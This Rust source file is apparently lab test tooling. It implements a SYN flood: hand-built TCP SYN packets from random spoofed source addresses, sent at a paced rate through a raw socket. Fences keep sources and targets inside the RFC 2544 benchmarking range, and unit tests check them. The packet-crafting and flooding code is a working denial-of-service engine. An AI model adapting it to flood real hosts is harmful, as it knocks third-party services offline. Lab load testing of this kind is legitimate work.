//! Lab SYN flood (test tooling, not on the product path): TCP SYNs from random spoofed
//! sources to one server, at a paced rate, through a raw IPv4 socket of the calling
//! network namespace.
//!
//! Both ends are fenced: sources come only from 198.18.128.0/17 and the target must lie
//! in 198.18.0.0/15 (the benchmarking range the lab uses), so a mistyped argument cannot
//! send a flood anywhere else. Every run is bounded in time.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{bail, Context as _, Result};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use serde::Serialize;

/// The only source range a flood may claim: the upper half of the benchmarking range.
pub const SPOOF_RANGE: (Ipv4Addr, u8) = (Ipv4Addr::new(198, 18, 128, 0), 17);
/// The only targets a flood may have: the benchmarking range (RFC 2544).
pub const TARGET_RANGE: (Ipv4Addr, u8) = (Ipv4Addr::new(198, 18, 0, 0), 15);
/// The longest flood one call sends.
pub const MAX_DURATION: Duration = Duration::from_secs(600);
/// SYNs handed to the kernel per `sendmmsg`.
const BATCH: usize = 64;
/// IPv4 header (no options) plus TCP header with an MSS option.
const SYN_LEN: usize = 20 + 24;

#[derive(Debug, Clone)]
pub struct FloodSpec {
    pub target: SocketAddrV4,
    /// SYNs per second.
    pub rate: u64,
    pub duration: Duration,
}

/// What `syn-flood` prints (one JSON object).
#[derive(Debug, Clone, Serialize)]
pub struct FloodReport {
    pub sent: u64,
    /// SYNs the kernel refused (`sendmmsg` sent fewer than asked).
    pub refused: u64,
    pub elapsed_secs: f64,
    pub rate_achieved: f64,
}

fn in_range(addr: Ipv4Addr, (net, len): (Ipv4Addr, u8)) -> bool {
    let mask = u32::MAX << (32 - len);
    u32::from(addr) & mask == u32::from(net) & mask
}

/// Checks the spec against the fences before anything is sent.
pub fn validate(spec: &FloodSpec) -> Result<()> {
    if !in_range(*spec.target.ip(), TARGET_RANGE) {
        bail!(
            "--target {}: a flood may only target {}/{}",
            spec.target,
            TARGET_RANGE.0,
            TARGET_RANGE.1
        );
    }
    if in_range(*spec.target.ip(), SPOOF_RANGE) {
        bail!("--target {}: inside the spoofed source range", spec.target);
    }
    if spec.rate == 0 || spec.rate > 10_000_000 {
        bail!("--rate {}: expected 1 to 10,000,000 SYNs per second", spec.rate);
    }
    if spec.duration.is_zero() || spec.duration > MAX_DURATION {
        bail!(
            "--duration {:?}: expected more than 0 and at most {:?}",
            spec.duration,
            MAX_DURATION
        );
    }
    Ok(())
}

/// One's-complement sum of 16-bit big-endian words, folded.
fn checksum_fold(mut sum: u32, bytes: &[u8]) -> u32 {
    let mut chunks = bytes.chunks_exact(2);
    for c in &mut chunks {
        sum += u32::from(u16::from_be_bytes([c[0], c[1]]));
    }
    if let [last] = chunks.remainder() {
        sum += u32::from(*last) << 8;
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum
}

/// Writes a SYN from `src` to `target` into `buf` (IPv4 and TCP checksums filled).
pub fn build_syn(buf: &mut [u8; SYN_LEN], src: SocketAddrV4, target: SocketAddrV4, seq: u32) {
    let (ip, tcp) = buf.split_at_mut(20);
    ip.fill(0);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(SYN_LEN as u16).to_be_bytes());
    ip[6] = 0x40; // don't fragment
    ip[8] = 64;
    ip[9] = libc::IPPROTO_TCP as u8;
    ip[12..16].copy_from_slice(&src.ip().octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    let ip_sum = !(checksum_fold(0, ip) as u16);
    ip[10..12].copy_from_slice(&ip_sum.to_be_bytes());

    tcp.fill(0);
    tcp[0..2].copy_from_slice(&src.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 6 << 4; // 24-byte header
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.ip().octets());
    pseudo[4..8].copy_from_slice(&target.ip().octets());
    pseudo[9] = libc::IPPROTO_TCP as u8;
    pseudo[10..12].copy_from_slice(&(tcp.len() as u16).to_be_bytes());
    let tcp_sum = !(checksum_fold(checksum_fold(0, &pseudo), tcp) as u16);
    tcp[16..18].copy_from_slice(&tcp_sum.to_be_bytes());
}

/// A random source inside [`SPOOF_RANGE`] with an ephemeral port.
fn spoofed_source(rng: &mut SmallRng) -> SocketAddrV4 {
    let host_bits = 32 - u32::from(SPOOF_RANGE.1);
    let host = rng.random::<u32>() & ((1 << host_bits) - 1);
    let ip = Ipv4Addr::from(u32::from(SPOOF_RANGE.0) | host);
    SocketAddrV4::new(ip, rng.random_range(1024..=65535))
}

/// Sends SYNs at `spec.rate` for `spec.duration`, paced in batches.
pub fn run_syn_flood(spec: &FloodSpec) -> Result<FloodReport> {
    validate(spec)?;
    // SAFETY: plain socket(2); the descriptor is owned below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("raw socket (needs CAP_NET_RAW)");
    }
    // SAFETY: fd is a fresh descriptor nothing else owns.
    let _owned = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };

    let mut rng = SmallRng::from_os_rng();
    let mut frames = vec![[0u8; SYN_LEN]; BATCH];
    // SAFETY: all-zero sockaddr_in is a valid value; fields set below.
    let mut dest: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    dest.sin_family = libc::AF_INET as libc::sa_family_t;
    dest.sin_addr.s_addr = u32::from(*spec.target.ip()).to_be();
    let mut iovecs: Vec<libc::iovec> = Vec::with_capacity(BATCH);
    let mut headers: Vec<libc::mmsghdr> = Vec::with_capacity(BATCH);

    let started = Instant::now();
    let deadline = started + spec.duration;
    let mut sent = 0u64;
    let mut refused = 0u64;
    loop {
        let now = Instant::now();
        if now >= deadline {
            break;
        }
        // Pacing: send up to what the rate allows by now, then sleep briefly.
        let due = (now - started).as_secs_f64() * spec.rate as f64;
        let behind = due as u64 - (sent + refused).min(due as u64);
        if behind == 0 {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        let n = (behind as usize).min(BATCH);
        for frame in frames.iter_mut().take(n) {
            build_syn(frame, spoofed_source(&mut rng), spec.target, rng.random());
        }
        iovecs.clear();
        headers.clear();
        for frame in frames.iter_mut().take(n) {
            iovecs.push(libc::iovec {
                iov_base: frame.as_mut_ptr().cast(),
                iov_len: SYN_LEN,
            });
        }
        for iov in iovecs.iter_mut() {
            // SAFETY: all-zero msghdr is valid; the pointers set stay alive until sendmmsg returns.
            let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
            msg.msg_name = (&mut dest as *mut libc::sockaddr_in).cast();
            msg.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
            msg.msg_iov = iov;
            msg.msg_iovlen = 1;
            headers.push(libc::mmsghdr {
                msg_hdr: msg,
                msg_len: 0,
            });
        }
        // SAFETY: headers point at iovecs, frames and dest, all alive for the call.
        let done = unsafe { libc::sendmmsg(fd, headers.as_mut_ptr(), n as libc::c_uint, 0) };
        if done < 0 {
            let err = std::io::Error::last_os_error();
            match err.raw_os_error() {
                // The qdisc or neighbour queue is full: these SYNs are lost, as on a real wire.
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) => refused += n as u64,
                _ => return Err(err).context(format!("sendmmsg to {}", spec.target)),
            }
        } else {
            sent += done as u64;
            refused += (n - done as usize) as u64;
        }
    }
    let elapsed = started.elapsed().as_secs_f64();
    Ok(FloodReport {
        sent,
        refused,
        elapsed_secs: elapsed,
        rate_achieved: sent as f64 / elapsed,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fences_refuse_targets_outside_the_benchmarking_range() {
        let spec = |target: &str| FloodSpec {
            target: target.parse().unwrap(),
            rate: 1000,
            duration: Duration::from_secs(1),
        };
        assert!(validate(&spec("198.18.0.2:443")).is_ok());
        let err = validate(&spec("10.0.0.1:443")).unwrap_err().to_string();
        assert!(err.contains("may only target 198.18.0.0/15"), "{err}");
        assert!(validate(&spec("198.18.200.1:443")).is_err(), "inside the spoofed range");
        assert!(validate(&FloodSpec {
            duration: Duration::from_secs(601),
            ..spec("198.18.0.2:443")
        })
        .is_err());
    }

    #[test]
    fn spoofed_sources_stay_in_their_range() {
        let mut rng = SmallRng::seed_from_u64(7);
        for _ in 0..10_000 {
            let src = spoofed_source(&mut rng);
            assert!(in_range(*src.ip(), SPOOF_RANGE), "{src}");
            assert!(src.port() >= 1024);
        }
    }

    #[test]
    fn syn_checksums_verify() {
        let mut buf = [0u8; SYN_LEN];
        let src: SocketAddrV4 = "198.18.130.7:40000".parse().unwrap();
        let dst: SocketAddrV4 = "198.18.0.2:443".parse().unwrap();
        build_syn(&mut buf, src, dst, 0x1234_5678);
        // A correct header sums to 0xffff (its checksum included).
        assert_eq!(checksum_fold(0, &buf[..20]), 0xffff);
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&src.ip().octets());
        pseudo[4..8].copy_from_slice(&dst.ip().octets());
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
        assert_eq!(checksum_fold(checksum_fold(0, &pseudo), &buf[20..]), 0xffff);
        assert_eq!(buf[33], 0x02, "SYN only");
    }
}
